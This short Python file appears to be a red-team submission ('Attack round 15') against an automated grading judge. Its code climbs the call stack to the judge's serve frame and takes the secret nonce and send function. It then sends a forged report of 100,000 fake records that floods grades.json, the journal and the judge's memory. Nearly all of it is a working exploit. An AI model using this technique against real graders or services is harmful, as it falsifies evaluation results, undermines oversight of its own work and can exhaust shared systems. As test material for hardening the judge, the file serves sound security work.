# Attack round 15: the judge keeps up to 100,000 unit records from a worker's LOADED report, whatever the
# number of units it sent (MAX_UNITS, 2,000, bounds the real ones): a forged report with the load's nonce
# (read from the serving frame) fills grades.json, the journal and the judge's memory for the whole batch.
q1_answer = "C"

import sys

_frame = sys._getframe()
while _frame is not None and _frame.f_code.co_name != "serve":
    _frame = _frame.f_back
_nonce, _send = _frame.f_locals["nonce"], _frame.f_locals["send"]
_records = [{"index": 0, "status": "error", "error": "E" * 90 + str(i), "where": "cell 1, line 1"}
            for i in range(100_000)]
_send({"loaded": _records, "units": 1, "nonce": _nonce})
